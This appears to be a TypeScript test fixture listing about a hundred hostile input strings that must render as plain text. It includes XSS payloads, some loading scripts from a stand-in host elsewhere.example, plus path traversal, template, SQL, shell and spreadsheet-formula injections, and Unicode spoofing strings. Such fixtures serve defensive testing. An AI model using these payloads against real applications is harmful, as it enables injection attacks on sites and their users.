/** Texts that must never be more than text: a hundred, each different. What runs would set `window.hurt`, open a dialog, or ask elsewhere. */

const MARKUP = [
  '<script>window.hurt = 1</script>',
  '<script src=//elsewhere.example/x.js></script>',
  '<img src=x onerror="window.hurt = 1">',
  '<img src="//elsewhere.example/seen.gif">',
  '"><svg onload=window.hurt=1>',
  "'><svg/onload=alert(1)>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hurt=1</script>">',
  '<iframe src="javascript:parent.hurt=1">',
  '<object data="javascript:alert(1)">',
  '<embed src="//elsewhere.example/x.swf">',
  '<link rel=stylesheet href=//elsewhere.example/x.css>',
  '<style>*{display:none}</style>',
  '<style>@import "//elsewhere.example/x.css"</style>',
  '<base href="//elsewhere.example/">',
  '<meta http-equiv=refresh content="0;url=//elsewhere.example">',
  '<form action=//elsewhere.example><input type=submit autofocus>',
  '<input autofocus onfocus=window.hurt=1>',
  '<details open ontoggle=window.hurt=1>',
  '<video><source onerror=window.hurt=1></video>',
  '<audio src=x onerror=window.hurt=1>',
  '<body onload=window.hurt=1>',
  '<marquee onstart=window.hurt=1>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<a href="javascript:window.hurt=1">a</a>',
  '<button onclick=window.hurt=1>b</button>',
  '<template><img src=x onerror=window.hurt=1></template>',
  '</textarea><script>window.hurt=1</script>',
  '</title><script>window.hurt=1</script>',
  '</script><script>window.hurt=1</script>',
  '--><script>window.hurt=1</script><!--',
  ']]><script>window.hurt=1</script>',
  '<!--<img src="--><img src=x onerror=window.hurt=1>',
  '<x onclick=window.hurt=1 style=position:fixed;inset:0>x</x>',
  '&lt;b&gt;not bold&lt;/b&gt;',
  '&#60;script&#62;window.hurt=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.hurt=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.hurt=1%3C/script%3E',
  '+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-',
];

const ADDRESSES = [
  'javascript:window.hurt=1',
  'JaVaScRiPt:window.hurt=1',
  'java\tscript:window.hurt=1',
  ' javascript:window.hurt=1',
  'javascript://%0Awindow.hurt=1',
  'data:text/html,<script>parent.hurt=1</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:null/0',
  '//elsewhere.example/a',
  'https://elsewhere.example/?a=b&c=d#e',
  '../../../../etc/passwd',
  '..%2f..%2fhealth',
  '/v1/session',
  '?status=FAILED',
  '#state=a',
];

const TEMPLATES = [
  '{{constructor.constructor("window.hurt=1")()}}',
  '{{7*7}}',
  '${window.hurt=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% 7*7 %}',
  '[[${7*7}]]',
  '`${window.hurt=1}`',
  "');window.hurt=1;('",
  '";window.hurt=1;"',
  '\\";window.hurt=1;//',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1",
  "'; DROP TABLE execution; --",
  '$(touch hurt)',
  '; touch hurt #',
  '%s%n%d',
];

const FORMULAS = ['=1+1', '=cmd|"/C calc"!A0', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("//elsewhere.example","a")', '\t=1+1'];

const SIGNS = [
  '\u202Egnp.exe',
  '\u2066a\u2069\u2067b',
  'a\u200Bb\u200Cc\u200Dd',
  '\uFEFFmark',
  'Z\u0351\u036B\u0343a\u0328\u0321l\u0334\u0318g\u0317\u0354o',
  'e\u0301 and \u00E9',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}',
  '\u{1F3F3}\uFE0F\u200D\u{1F308}',
  '\uFDFD\uFDFD\uFDFD',
  'مرحبا <b>world</b>',
  'ﬀ ｆｕｌｌｗｉｄｔｈ ＜script＞',
  'line\u2028separator\u2029paragraph',
  'null',
  'undefined',
  'NaN',
];

/** Only where any text may stand, as names may hold neither of these. */
const RAW = ['\u0000\u0007\u001b[31mred', 'A'.repeat(5000)];

export const HOSTILE: readonly string[] = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...FORMULAS, ...SIGNS, ...RAW];

/** Those that may name something that takes almost any name. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.filter((text) => !RAW.includes(text));
